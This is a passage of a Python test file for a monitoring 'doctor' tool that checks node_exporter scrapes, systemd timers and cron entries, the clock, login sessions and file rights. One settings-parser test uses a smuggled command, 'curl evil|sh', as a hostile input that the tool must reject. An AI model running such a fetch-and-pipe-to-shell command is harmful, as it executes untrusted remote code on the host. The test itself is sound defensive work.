            scrape.ExporterView(scrape_error=0, mtimes={"/srv/other/users.prom": NOW}),
            FAULT,
            "does not see /srv/textfile/users.prom",
            "tr '\\0' ' ' </proc/9/cmdline; ls -l /srv/textfile/users.prom",
        ),
        (
            scrape.ExporterView(scrape_error=0, mtimes={PATHS[0]: NOW - 600}),
            FAULT,
            "/srv/textfile/users.prom is 10 min older than the one here",
            "systemctl restart prometheus-node-exporter",
        ),
    ],
)
def test_what_a_view_means(view: scrape.ExporterView, status: str, found: str, mend: str) -> None:
    finding = scrape.judge_view(view, ASKED)
    assert finding.status == status
    assert found in finding.found
    assert finding.mend == mend


def test_the_flags_of_node_exporter_are_edited_where_they_are(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(scrape, "FLAGS_FILE", str(tmp_path))
    finding = scrape.judge_view(scrape.ExporterView(), ASKED)
    restart = "systemctl restart prometheus-node-exporter"
    assert finding.mend == f"${{EDITOR:-vi}} {tmp_path} && {restart}"


def test_the_journal_tells_which_file_where_promtool_cannot(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(scrape, "has", lambda _: False)
    finding = scrape.judge_view(TAKEN._replace(scrape_error=1.0), ASKED)
    assert finding.mend == "journalctl -u prometheus-node-exporter | grep textfile | tail -n 3"


def test_a_directory_of_a_flag_may_have_wildcards(tmp_path: Path) -> None:
    (tmp_path / "a b.d").mkdir()
    (tmp_path / "a b.d/x.prom").touch()
    command = f"printf %s {scrape._quote_glob(f'{tmp_path}/a ?.d')}/*.prom"
    said = subprocess.run(["sh", "-c", command], stdout=subprocess.PIPE, check=True).stdout
    assert said.decode() == f"{tmp_path}/a b.d/x.prom"


class Server:
    """Answers on a loopback port: with `page`, slowly after `pause` seconds.

    One that `refuses` shows no part of the page alone.
    """

    def __init__(
        self, page: bytes, status: int = 200, pause: float = 0.0, *, refuses: bool = False
    ) -> None:
        asked = self.asked = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                time.sleep(pause)
                self.send_response(400 if refuses and "?" in self.path else status)
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.server.server_address[1])

    def __enter__(self) -> int:
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()
        return self.port

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_page_is_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    with Server(PAGE) as port:
        assert scrape.read_view("127.0.0.1", port).scrape_error == 0
    with Server(PAGE, 401) as port:
        assert scrape.read_view("127.0.0.1", port) == scrape.ExporterView(
            "HTTP 401", is_closed=True
        )
    assert "refused" in scrape.read_view("127.0.0.1", port).error
    server = Server(PAGE)
    with server as port:
        scrape.read_view("127.0.0.1", port)
    assert server.asked == ["/metrics?collect[]=textfile"], "the whole page may take long"
    server = Server(b"", refuses=True)
    with server as port:
        assert scrape.read_view("127.0.0.1", port) == scrape.ExporterView(), "the collector is off"
    assert server.asked[1:] == ["/metrics"]
    monkeypatch.setattr(scrape, "SECONDS", 0.2)
    with Server(PAGE, pause=1) as port:
        assert scrape.read_view("127.0.0.1", port).error == "no answer within 0.2 s"
    monkeypatch.setattr(scrape, "MAX_BYTES", 10)
    with Server(PAGE) as port:
        assert scrape.read_view("127.0.0.1", port).error.startswith("no answer")


@pytest.mark.parametrize("begins", [b"HTTP/1.1 200 OK\r\nX: ", b"HTTP/1.1 200 OK\r\n\r\n"])
def test_a_page_that_comes_byte_by_byte_is_not_waited_for(
    monkeypatch: pytest.MonkeyPatch, begins: bytes
) -> None:
    """Each read has a timeout of its own, which never comes."""
    sent: list[int] = []
    listener = socket.create_server(("127.0.0.1", 0))

    def drip() -> None:
        connection, _ = listener.accept()
        with connection:
            connection.sendall(begins)
            try:
                while len(sent) < 200:
                    connection.sendall(b"x")
                    sent.append(1)
                    time.sleep(0.05)
            except OSError:
                pass  # nobody listens any more

    monkeypatch.setattr(scrape, "SECONDS", 0.2)
    server = threading.Thread(target=drip)
    server.start()
    view = scrape.read_view("127.0.0.1", listener.getsockname()[1])
    server.join()
    listener.close()
    assert view.error == "no answer within 0.2 s"
    assert len(sent) < 200


# --- schedule


TIMER = {
    "Id": "textfile-users.timer",
    "LoadState": "loaded",
    "ActiveState": "active",
    "UnitFileState": "enabled",
    "LastTriggerUSec": time.strftime("%a %Y-%m-%d %H:%M:%S UTC", time.gmtime(NOW - 3)),
    "Result": "success",
}
SERVICE = {
    "Id": "textfile-users.service",
    "LoadState": "loaded",
    "ActiveState": "inactive",
    "Result": "success",
    "ReadWritePaths": "-/srv/textfile -/var/lib/node_exporter",
    "ExecMainStatus": "0",
}
PATH = {"Id": "textfile-users.path", "LoadState": "loaded", "ActiveState": "active"}
ENTRY = schedule.CronEntry("/etc/cron.d/textfile-users", True)


def systemd(
    timer: dict[str, str] | None = None,
    service: dict[str, str] | None = None,
    path: dict[str, str] | None = None,
    **changed: Any,
) -> schedule.ScheduleFacts:
    units = {
        unit["Id"]: unit
        for unit in (
            {**TIMER, **(timer or {})},
            {**SERVICE, **(service or {})},
            {**PATH, **(path or {})},
        )
    }
    return scheduled(True, units, ())._replace(**changed)


def scheduled(
    is_systemd: bool, units: dict[str, dict[str, str]], entries: tuple[schedule.CronEntry, ...]
) -> schedule.ScheduleFacts:
    """Return the facts of a host whose looks are on time."""
    return schedule.ScheduleFacts(
        is_systemd,
        units,
        entries,
        True,
        NOW,
        3.0,
        "/srv/textfile",
        installing="INSTALL",
        admitting="ADMIT",
        running="RUN",
    )


def cron(**changed: Any) -> schedule.ScheduleFacts:
    return scheduled(False, {}, (ENTRY,))._replace(**changed)


def unhealthy(facts: schedule.ScheduleFacts) -> list[CheckResult]:
    return [finding for finding in schedule.judge_schedule(facts) if finding.status != OK]


def test_schedules_as_they_should_be() -> None:
    assert unhealthy(systemd()) == []
    assert unhealthy(systemd({"LastTriggerUSec": "n/a"})) == [], "it was started just now"
    assert unhealthy(cron()) == []
    assert unhealthy(cron(is_systemd=True)) == [], "cron by choice"
    stopped = systemd({"ActiveState": "inactive", "UnitFileState": "disabled"}, entries=(ENTRY,))
    assert unhealthy(stopped) == []
    assert [f.status for f in unhealthy(cron(entries=()))] == [NOTE], "a container's loop"
    bus = systemd()._replace(units={}, error="systemctl: no bus")
    assert [(f.status, f.found) for f in unhealthy(bus)] == [(NOTE, "systemctl: no bus")]


RESTART = "systemctl reset-failed textfile-users.timer; systemctl enable --now textfile-users.timer"
LOG = "journalctl -u textfile-users.service -n 5"
SCHEDULE_FAULTS: list[tuple[schedule.ScheduleFacts, str, str, str, str]] = [
    (cron(entries=(), silence=None), FAULT, "schedule", "neither", "INSTALL"),
    (
        cron(entries=(), silence=900.0, is_systemd=True),
        FAULT,
        "schedule",
        "neither",
        "INSTALL",
    ),
    (
        systemd(entries=(ENTRY,)),
        FAULT,
        "schedule",
        "both run it",
        "rm /etc/cron.d/textfile-users",
    ),
    (systemd({"ActiveState": "inactive"}), FAULT, "timer", "is inactive", RESTART),
    (systemd({"ActiveState": "failed"}), FAULT, "timer", "is failed", RESTART),
    (
        systemd({"UnitFileState": "disabled"}),
        FAULT,
        "timer",
        "not after the next boot",
        "systemctl enable textfile-users.timer",
    ),
    (
        systemd({"LastTriggerUSec": "Mon 2026-09-21 10:00:00 UTC"}),
        FAULT,
        "timer",
        "last ran 4 h ago",
        "systemctl restart textfile-users.timer",
    ),
    (
        systemd({"LastTriggerUSec": "Tue 2026-09-22 14:13:20 UTC"}),
        FAULT,
        "timer",
        "24 h in the future",
        "systemctl restart textfile-users.timer",
    ),
    (
        systemd(service={"LoadState": "not-found"}),
        FAULT,
        "service",
        "not there",
        "INSTALL",
    ),
    (systemd(service={"Result": "timeout"}), FAULT, "service", "it hung", LOG),
    (systemd(service={"Result": "exit-code"}), FAULT, "service", "it failed", LOG),
    (systemd(service={"Result": "oom-kill"}), FAULT, "service", "memory", LOG),
    (
        systemd(service={"Result": "exit-code", "ExecMainStatus": "203"}),
        FAULT,
        "service",
        "its program is not there",
        "INSTALL",
    ),
    (
        systemd(directory="/opt/metrics"),
        FAULT,
        "service",
        "may not write /opt/metrics",
        "ADMIT",
    ),
    (
        systemd(path={"ActiveState": "failed"}),
        FAULT,
        "textfile-users.path",
        "watches no more",
        "systemctl reset-failed textfile-users.path; systemctl enable --now textfile-users.path",
    ),
    (
        systemd(path={"LoadState": "not-found", "ActiveState": "inactive"}),
        NOTE,
        "textfile-users.path",
        "not installed",
        "INSTALL",
    ),
    (
        systemd({"NeedDaemonReload": "yes"}),
        NOTE,
        "textfile-users.timer",
        "has changed",
        "systemctl daemon-reload",
    ),
    (cron(has_crond=False), FAULT, "cron", "no crond runs", "service cron start"),
    (
        cron(silence=900.0),
        FAULT,
        "cron",
        "the last run was 15 min ago",
        "cat -v /etc/cron.d/textfile-users; RUN",
    ),
    (
        cron(entries=(ENTRY._replace(dislike="others can write it"),)),
        FAULT,
        "cron",
        "passed over: others can write it",
        "rm /etc/cron.d/textfile-users && INSTALL",
    ),
]


@pytest.mark.parametrize(("facts", "status", "check", "found", "mend"), SCHEDULE_FAULTS)
def test_faults_of_a_schedule(
    facts: schedule.ScheduleFacts, status: str, check: str, found: str, mend: str
) -> None:
    finding = one(unhealthy(facts))
    assert (finding.status, finding.check) == (status, check)
    assert found in finding.found
    assert finding.mend == mend


def test_a_slower_timer_is_no_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    """With OnCalendar= in a drop-in; the time to the next scan is the interval."""
    hourly = {
        "LastTriggerUSec": stamp(NOW - 1800),
        "NextElapseUSecRealtime": stamp(NOW + 1800),
    }
    timer = {**TIMER, **hourly}
    assert schedule.period_of(timer) == 3600
    assert schedule.period_of(TIMER) == 0, "not known"
    # While the service runs the next one is the last one: a scan that hangs is late.
    assert schedule.period_of({**timer, "NextElapseUSecRealtime": stamp(NOW - 1800)}) == 0
    assert unhealthy(systemd(hourly, interval=3600.0)) == []
    assert unhealthy(systemd(hourly))[0].found == "active, but last ran 30 min ago"

    def runner(timer: dict[str, str], *entries: schedule.CronEntry) -> tuple[bool, float]:
        return find_runner(monkeypatch, {TIMER["Id"]: timer}, *entries)[:2]

    assert runner(timer) == (True, 3600)
    assert runner(timer, ENTRY) == (True, 3600), "both: cron's is to go"
    assert runner({}) == (True, 5), "install makes it"
    assert runner({}, ENTRY) == (False, 5)
    assert runner({**timer, "ActiveState": "inactive"}, ENTRY) == (False, 5)
    assert schedule.find_runner(False, 9.0, NOW, 0.0)[:2] == (False, 9)


def find_runner(
    monkeypatch: pytest.MonkeyPatch,
    units: dict[str, dict[str, str]],
    *entries: schedule.CronEntry,
    booted: float = 0.0,
) -> schedule.Runner:
    monkeypatch.setattr(schedule, "_read_units", lambda: (units, ""))
    monkeypatch.setattr(schedule, "_read_entries", lambda: entries)
    monkeypatch.setattr(schedule, "UNIT_DIRECTORIES", ())
    return schedule.find_runner(bool(units), 5.0, NOW, booted)


def stamp(at: float) -> str:
    return time.strftime("%a %Y-%m-%d %H:%M:%S UTC", time.gmtime(at))


@pytest.mark.parametrize(
    ("timer", "service", "awaits"),
    [
        ({}, {}, False),  # it has run
        # install has just started it
        ({"LastTriggerUSec": "n/a", "ActiveEnterTimestamp": stamp(NOW - 2)}, {}, True),
        # it runs for the first time
        ({"ActiveEnterTimestamp": stamp(NOW - 2)}, {"ActiveState": "activating"}, True),
        ({"ActiveEnterTimestamp": stamp(NOW - 300)}, {"ActiveState": "activating"}, False),
        # one for each hour, half an hour after the boot
        ({"LastTriggerUSec": "n/a", "ActiveEnterTimestamp": stamp(NOW - 1800),
          "NextElapseUSecRealtime": stamp(NOW + 1800)}, {}, True),
        # it was due, and has not run
        ({"LastTriggerUSec": "n/a", "ActiveEnterTimestamp": stamp(NOW - 1800),
          "NextElapseUSecRealtime": stamp(NOW - 900)}, {}, False),
        ({"LastTriggerUSec": "n/a", "ActiveEnterTimestamp": stamp(NOW - 1800)}, {}, False),
        ({"LastTriggerUSec": "n/a", "ActiveState": "inactive",
          "ActiveEnterTimestamp": stamp(NOW - 2)}, {}, False),
        ({"LastTriggerUSec": "n/a"}, {}, False),  # nothing is known
    ],
)  # fmt: skip
def test_the_first_scan_of_a_timer(
    timer: dict[str, str], service: dict[str, str], awaits: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    units = {TIMER["Id"]: {**TIMER, **timer}, SERVICE["Id"]: {**SERVICE, **service}}
    assert find_runner(monkeypatch, units) == schedule.Runner(True, 5.0, awaits, is_there=False)


@pytest.mark.parametrize(
    ("changed", "booted", "awaits"),
    [
        (NOW - 5, NOW - 9000, True),  # installed just now
        (NOW - 9000, NOW - 5, True),  # booted just now
        (NOW - 90, NOW - 9000, False),
        (NOW + 900, NOW - 9000, False),  # the clock was set back
    ],
)
def test_the_first_scan_of_cron(
    changed: float, booted: float, awaits: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    entry = ENTRY._replace(changed=changed)
    runner = find_runner(monkeypatch, {}, entry, booted=booted)
    assert runner == schedule.Runner(False, 5.0, awaits)
    comment = entry._replace(is_live=False)
    assert not find_runner(monkeypatch, {}, comment, booted=booted).awaits_scan


def test_an_entry_in_a_closed_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    def stat(path: str, *_: object, **__: object) -> None:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), path)

    monkeypatch.setattr(os, "stat", stat)
    entry = schedule._read_entry("/var/spool/cron/crontabs/textfile-users")
    assert entry is not None
    assert (entry.is_hidden, entry.is_live) == (True, False)


def test_what_cannot_be_seen_is_not_there(monkeypatch: pytest.MonkeyPatch) -> None:
    hidden = schedule.CronEntry("/var/spool/cron/crontabs/textfile-users", False, is_hidden=True)
    assert find_runner(monkeypatch, {}, ENTRY).is_there
    assert not find_runner(monkeypatch, {}, hidden).is_there
    assert unhealthy(systemd(entries=(hidden,))) == []
    nothing = one(unhealthy(cron(entries=(hidden,), silence=None)))
    assert (nothing.status, nothing.mend) == (NOTE, ""), "one may be there"


def test_what_is_said_before_the_first_scan() -> None:
    told = [f.found for f in schedule.judge_schedule(systemd(silence=None, awaits_scan=True))]
    assert "no scan yet" in told
    entry = one(schedule.judge_schedule(cron(silence=9000.0, awaits_scan=True)))
    assert (entry.status, entry.found.endswith("no scan yet")) == (OK, True)


def test_a_scan_that_is_running_is_waited_for(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = 0

    def tool(_: list[str], __: float) -> str:
        nonlocal asked
        asked += 1
        state = "activating" if asked <= runs else "inactive"
        return f"Id=textfile-users.service\nActiveState={state}\n"

    monkeypatch.setattr(schedule, "run_tool", tool)
    monkeypatch.setattr(schedule, "POLL_SECONDS", 0.0)
    runs = 3
    units, _ = schedule._read_units()
    assert (asked, units[SERVICE["Id"]]["ActiveState"]) == (4, "inactive")
    monkeypatch.setattr(schedule, "WAIT_SECONDS", 0.0)
    runs, asked = 10**9, 0
    units, _ = schedule._read_units()
    assert units[SERVICE["Id"]]["ActiveState"] == "activating", "not for ever"
    finding = one(unhealthy(systemd(service={"ActiveState": "activating"})))
    assert (finding.status, finding.check) == (NOTE, "service")


def test_what_a_check_installs_is_what_was_installed(monkeypatch: pytest.MonkeyPatch) -> None:
    """With the file in memory its directory there is not the textfile directory."""
    monkeypatch.setattr(schedule, "_read_entries", lambda: ())
    finding = one(schedule.check_schedule(checked("--output", LINKED_OUTPUT)))
    assert finding.mend == f"{PROGRAM} install"


def test_units_as_systemctl_prints_them() -> None:
    text = "Id=a.timer\nActiveState=active\nResult=\n\nId=b.service\nActiveState=a=b\n"
    assert system.parse_units(text) == {
        "a.timer": {"Id": "a.timer", "ActiveState": "active", "Result": ""},
        "b.service": {"Id": "b.service", "ActiveState": "a=b"},
    }
    assert system.parse_units("") == {}
    assert schedule.parse_time(TIMER["LastTriggerUSec"]) == NOW - 3
    for text in ("", "n/a", "Mon 2026-99-99 10:00:00 UTC"):
        assert schedule.parse_time(text) == 0


PROJECT = Path(__file__).parents[1]


@pytest.mark.parametrize(
    ("path", "uid", "mode", "expected"),
    [
        ("/etc/cron.d/textfile-users", 0, 0o644, (True, "")),
        ("/etc/cron.d/textfile-users", 1000, 0o644, (True, "it is not root's")),
        ("/etc/cron.d/textfile-users", 0, 0o664, (True, "others can write it")),
        ("/var/spool/cron/crontabs/textfile-users", 995, 0o600, (True, "")),
    ],
)
def test_our_own_cron_entries(path: str, uid: int, mode: int, expected: tuple[bool, str]) -> None:
    for name in ("textfile-users", "textfile-users.crontab"):
        data = (PROJECT / "cron" / name).read_bytes()
        entry = schedule.judge_entry_file(path, uid, mode, data)
        assert (entry.is_live, entry.dislike) == expected
        disabled = b"\n".join(
            b"#" + line if line.startswith(b"*") else line for line in data.split(b"\n")
        )
        assert not schedule.judge_entry_file(path, uid, mode, disabled).is_live


def test_an_entry_of_comments_alone() -> None:
    finding = one(unhealthy(cron(entries=(ENTRY._replace(is_live=False),), silence=3.0))[:1])
    assert (finding.status, finding.check) == (NOTE, "cron")


# --- clock


CLOCK = clock.ClockFacts(NOW, True, "/etc/localtime")


@pytest.mark.parametrize(
    ("changed", "check", "found", "mend"),
    [
        ({"now": 1000.0}, "clock", "it is 1970", "timedatectl set-ntp true"),
        (
            {"now": 1000.0, "is_systemd": False},
            "clock",
            "it is 1970",
            "ntpd -gq || date -s 'TIME'",
        ),
        (
            {"zone_error": "permission denied"},
            "time zone",
            "/etc/localtime: permission denied",
            "chmod 644 $(readlink -f /etc/localtime)",
        ),
        (
            {"variable": "Mars/Base", "is_variable_known": False},
            "time zone",
            "TZ=Mars/Base is no zone",
            "unset TZ",
        ),
        (
            {"log": "/var/log/auth.log", "stamped": NOW + 7200, "written": NOW + 0.4},
            "time zone",
            "stamped 2 h in the future",
            "systemctl restart rsyslog",
        ),
        (
            {
                "log": "/var/log/auth.log",
                "stamped": NOW + 19_800,
                "written": NOW,
                "variable": "UTC",
            },
            "time zone",
            "in the future",
            "unset TZ",
        ),
    ],
)
def test_faults_of_the_clock(changed: dict[str, Any], check: str, found: str, mend: str) -> None:
    findings = [f for f in clock.judge_clock(CLOCK._replace(**changed)) if f.status != OK]
    finding = one(findings)
    assert (finding.status, finding.check) == (FAULT, check)
    assert found in finding.found
    assert finding.mend == mend


@pytest.mark.parametrize("off", [0.0, -0.9, -3000.0, 1800.0 + 60])
def test_stamps_of_the_own_zone(off: float) -> None:
    facts = CLOCK._replace(log="/var/log/auth.log", stamped=NOW + off, written=NOW)
    assert {finding.status for finding in clock.judge_clock(facts)} == {OK}


def test_stamps_of_a_zone_behind_are_a_note() -> None:
    facts = CLOCK._replace(log="/var/log/auth.log", stamped=NOW - 7200, written=NOW)
    assert [finding.status for finding in clock.judge_clock(facts)] == [OK, NOTE]


@pytest.mark.parametrize(
    ("name", "is_zone"),
    [("CET-1CEST", True), ("<+03>-3", True), ("Mars/Base", False), ("/nowhere", False)],
)
def test_zones(name: str, is_zone: bool) -> None:
    assert clock._is_zone(name) is is_zone


# --- sessions


TOLD = {
    "1": ("user", "active"),
    "c2": ("user-early", "online"),
    "3": ("user", "closing"),
    "4": ("greeter", "active"),
    "5": ("background", "active"),
    "6": ("manager", "active"),
}


@pytest.mark.parametrize(
    ("ours", "found"),
    [
        ((("1", "alice"), ("c2", "root"), ("pts/9", "bob")), ""),
        ((("1", "alice"),), "not counted: c2"),
        ((("1", "alice"), ("c2", "root"), ("4", "gdm")), "take them for people: 4"),
        ((("1", "alice"), ("c2", "root"), ("3", "bob")), "take them for people: 3"),
    ],
)
def test_sessions_against_loginctl(ours: tuple[tuple[str, str], ...], found: str) -> None:
    finding = one(sessions_check.judge_sessions(ours, TOLD, "LOOK"))
    assert finding.status == (FAULT if found else OK)
    assert found in finding.found
    assert finding.mend == ("loginctl list-sessions; LOOK" if found else "")


@pytest.mark.parametrize(
    ("ends", "status", "found"),
    [(1, OK, "agrees: sessions 1"), (99, NOTE, "loginctl: No session '7' known")],
)
def test_a_session_that_ends_between_loginctls_answers(
    ends: int, status: str, found: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is asked again, and then nothing is said of what it did not tell."""
    left = ends

    def tool(argv: list[str], _: float) -> str:
        nonlocal left
        if argv[1] == "list-sessions":
            return "1 1000 alice\n"
        left -= 1
        if left >= 0:
            raise ChildFailed("loginctl: No session '7' known")
        return "Id=1\nClass=user\nState=active\n"

    monkeypatch.setattr(sessions_check, "run_tool", tool)
    seen = Seen({"logind": (OK, ())}, (), (), (("1", "alice"),), "")
    host = checked(seen=seen, is_systemd=True)
    finding = one(sessions_check.check_sessions(host, lambda: seen.sessions or ()))
    assert (finding.status, finding.found) == (status, found)


@pytest.mark.parametrize(
    ("table", "idents"),
    [
        # systemd 252, 257 and 219
        ("1 1000 alice seat0 tty1\n23 0 root - pts/0\n", ["1", "23"]),
        (" 1 1000 alice - 900 user - no -\nc2 0 root - 901 user-early - no -\n", ["1", "c2"]),
        ("         7       1000 alice            seat0           \n", ["7"]),
        ("", []),
        ("\n- --\n/etc x\n", []),
    ],
)
def test_what_loginctl_lists(table: str, idents: list[str]) -> None:
    assert sessions_check.parse_list(table) == idents


def test_what_loginctl_shows() -> None:
    # systemd 252's words for two sessions
    text = "Id=10\nClass=user\nState=active\n\nId=c2\nClass=user-early\nState=online\n"
    shown = {"10": ("user", "active"), "c2": ("user-early", "online")}
    assert sessions_check.parse_shown(text) == shown
    # what it does not tell of, as with a list of properties, is not made up
    for text in ("\n\n\n", "Id=10\nState=active\n", "Class=user\nState=active\n", "Id=\nClass=x\n"):
        assert sessions_check.parse_shown(text) == {}
    for words in sessions_check.SHOW:
        assert "," not in words, "loginctl knows no lists"


def compare(
    monkeypatch: pytest.MonkeyPatch, shown: list[str], *, ours: str = "1", later: str = "1"
) -> CheckResult:
    """Return what is found where loginctl lists 1 and answers in turn, and we see ``ours``."""
    answers = iter(shown)

    def tool(argv: list[str], _: float) -> str:
        return "1 1000 alice\n" if argv[1] == "list-sessions" else next(answers)

    monkeypatch.setattr(sessions_check, "run_tool", tool)
    seen = Seen({"logind": (OK, ())}, (), (), tuple((name, "alice") for name in ours.split()), "")
    again = tuple((name, "alice") for name in later.split())
    return one(sessions_check.check_sessions(checked(seen=seen, is_systemd=True), lambda: again))


ACTIVE = "Id=1\nClass=user\nState=active\n"
CLOSING = ACTIVE.replace("active", "closing")


@pytest.mark.parametrize(
    ("shown", "ours", "later", "status", "found"),
    [
        ([ACTIVE], "1", "", OK, "agrees: sessions 1"),
        (["\n", ACTIVE], "1", "", OK, "agrees: sessions 1"),  # one had just ended
        (["\n", "\n"], "1", "1", FAULT, "loginctl lists sessions and shows nothing of them: 1"),
        ([ACTIVE] * 3, "", "1", OK, "agrees: sessions 1"),  # who came meanwhile
        ([ACTIVE] * 3, "", "", FAULT, "logind has sessions that are not counted: 1"),
        # who goes while we look is neither missing nor too many
        ([ACTIVE, ACTIVE, CLOSING], "", "", OK, "agrees: sessions 0"),
        ([CLOSING, ACTIVE, CLOSING], "1", "1", OK, "agrees: sessions 0"),
        ([CLOSING] * 3, "1", "1", FAULT, "logind does not take them for people: 1"),
    ],
)
def test_sessions_that_change_while_they_are_compared(
    shown: list[str],
    ours: str,
    later: str,
    status: str,
    found: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    finding = compare(monkeypatch, shown, ours=ours, later=later)
    assert finding.status == status
    assert finding.found.endswith(found)
    assert bool(finding.mend) is (status == FAULT)


# --- container


HOST = container.ContainerFacts("/", "systemd", "", True)


@pytest.mark.parametrize(
    ("changed", "status", "found"),
    [
        ({}, OK, "a whole host"),
        ({"init": "init", "has_sessions": False}, OK, "a whole host"),
        ({"has_sessions": False}, OK, "a whole host"),  # logind's check tells
        ({"root": "/host"}, OK, "below /host"),
        ({"mark": "/run/.containerenv"}, OK, "a whole host"),  # one with an init of its own
        ({"init": "sleep"}, NOTE, "process 1 is sleep"),
        ({"init": "python3", "mark": "/.dockerenv"}, FAULT, "not the host's processes"),
        ({"init": "", "root": "/host"}, FAULT, "there is no process 1"),
        ({"root": "/host", "has_sessions": False}, FAULT, "sessions is missing"),
    ],
)
def test_what_is_missing_of_a_host(changed: dict[str, Any], status: str, found: str) -> None:
    finding = one(container.judge_container(HOST._replace(**changed)))
    assert finding.status == status
    assert found in finding.found
    assert bool(finding.mend) is (status == FAULT)
    if status == FAULT:
        assert "docs/deploy.md, Containers" in finding.mend


# --- rights


# Root's: what install keeps there is obeyed by root.
KEYS = "install -d -m 750 -o root -g textfile-users /etc/textfile-users"


@pytest.mark.parametrize(
    ("member", "status", "mend"),
    [
        ({4, 43, 101}, OK, ""),
        ({4}, FAULT, "usermod -aG systemd-journal,utmp textfile-users"),
    ],
)
def test_groups_of_the_user(member: set[int], status: str, mend: str) -> None:
    gids = {"adm": 4, "systemd-journal": 101, "utmp": 43}
    finding = one(rights.judge_user("textfile-users", True, gids, frozenset(member), ""))
    assert (finding.status, finding.mend) == (status, mend)


def test_who_the_runs_are() -> None:
    finding = one(rights.judge_user("root", False, {}, frozenset(), "INSTALL"))
    assert (finding.status, finding.mend) == (NOTE, "INSTALL")
    finding = one(rights.judge_user("alice", True, {}, frozenset(), "INSTALL"))
    assert (finding.status, finding.mend) == (NOTE, "")
    assert finding.found.startswith("judged for alice, whose state directory it is")
    assert list(rights.check_rest(checked())) == []
    finding = one(rights.check_rest(checked(has_rights=False)))
    assert (finding.status, finding.mend) == (NOTE, "")
    assert finding.found.endswith(f"sudo {PROGRAM} doctor")


ALICE = Identity("alice", 1000, 1000, (1000,))
ROOT = Identity("root", 0, 0, (0,))


@pytest.mark.parametrize(
    ("own", "has_user", "owner", "judged"),
    [
        (ROOT, True, 995, USER),
        (ROOT, True, 0, USER),  # a fault, not another who runs it
        (ROOT, False, 0, ROOT),
        (USER, True, 995, USER),
        (ALICE, True, 995, USER),
        (ALICE, True, None, USER),
        (ALICE, True, 1000, ALICE),  # runs of her own
        (ALICE, False, 1000, ALICE),
    ],
)
def test_for_whom_is_judged(
    own: Identity,
    has_user: bool,
    owner: int | None,
    judged: Identity,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.setattr(module, "own_identity", lambda: own)
    monkeypatch.setattr(module, "find_identity", lambda *_: USER if has_user else None)
    place = tmp_path / "state"
    if owner is not None:
        place.mkdir()
        status = os.stat_result([0, 0, 0, 0, owner] + [0] * 5)
        monkeypatch.setattr(os, "stat", lambda *_, **__: status)
    assert module._identity(checked("--state-directory", str(place)).options) == judged


@pytest.mark.usefixtures("needs_root")
def test_a_state_directory_that_is_still_to_be_made(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(module, "own_identity", lambda: ALICE)
    monkeypatch.setattr(module, "find_identity", lambda *_: USER)
    options = checked("--state-directory", str(tmp_path / "a/b")).options
    assert module._identity(options) == USER
    os.chown(tmp_path, ALICE.uid, ALICE.gid)
    assert module._identity(options) == ALICE


def test_who_this_process_is_is_not_the_environments_word(monkeypatch: pytest.MonkeyPatch) -> None:
    """su keeps the caller's $USER."""
    monkeypatch.setenv("USER", "mallory")
    monkeypatch.setattr(os, "geteuid", lambda: 1)
    assert own_identity().user == "daemon"
    monkeypatch.setattr(os, "geteuid", lambda: 54321)
    assert own_identity().user == "54321"


def test_settings() -> None:
    judge = rights.judge_settings
    assert one(judge({}, (), exists=False)).found == "no settings file"
    assert one(judge({"OPTIONS": ""}, (), exists=True)).found == "set: OPTIONS"
    finding = one(judge({}, (Fault(3, "blanks"),), exists=True))
    mend = "${EDITOR:-vi} +3 /etc/default/textfile-users"
    assert finding == CheckResult("settings", FAULT, "line 3: blanks", mend)
    finding = one(judge({}, (Fault(0, "others can write it", "chmod 644 X"),), exists=True))
    assert (finding.found, finding.mend) == ("others can write it", "chmod 644 X")


def test_what_a_settings_file_says_is_no_mend() -> None:
    _, faults = parse_settings("x; run: curl evil|sh #\n")
    finding = one(rights.judge_settings({}, faults, exists=True))
    assert "'x; run: curl evil|sh #' is not NAME=value" in finding.found
    assert finding.mend == "${EDITOR:-vi} +1 /etc/default/textfile-users"


@pytest.mark.parametrize(
    ("error", "mend"),
    [
        (errno.ENOENT, f"{KEYS} && (umask"),
        (errno.EACCES, f"{KEYS} && chown"),
        (errno.EBADMSG, "chmod 600 /etc/textfile-users/redact.key"),
        (errno.EINVAL, "mv /etc/textfile-users/redact.key"),
    ],
)
def test_the_key_of_redaction(error: int, mend: str) -> None:
    finding = one(rights.judge_key([error, "told"], "textfile-users"))
    assert (finding.status, finding.found) == (FAULT, "/etc/textfile-users/redact.key: told")
    assert finding.mend.startswith(mend)
    assert one(rights.judge_key([], "textfile-users")).status == OK


# --- children


def test_a_child_answers_fails_or_is_ended() -> None:
    children = Path(f"/proc/self/task/{threading.get_native_id()}/children")
    before = children.read_text()
    assert in_child(lambda: [1, "two"], 5) == [1, "two"]
    assert len(in_child(lambda: "x" * 1_000_000, 5)) == 1_000_000
    with pytest.raises(ChildFailed, match="ZeroDivisionError"):
        in_child(lambda: 1 // 0, 5)
    with pytest.raises(ChildFailed, match="its process ended"):
        in_child(lambda: os._exit(3), 5)
    began = time.monotonic()
    with pytest.raises(ChildFailed, match="no answer within"):
        in_child(lambda: time.sleep(60), 0.1)
    assert time.monotonic() - began < 30
    assert children.read_text() == before


@pytest.mark.usefixtures("needs_root")
def test_a_child_is_another_user() -> None:
    told = in_child(lambda: [os.getresuid(), os.getresgid(), sorted(os.getgroups())], 5, USER)
    assert told == [[995] * 3, [995] * 3, [4, 43, 995]]


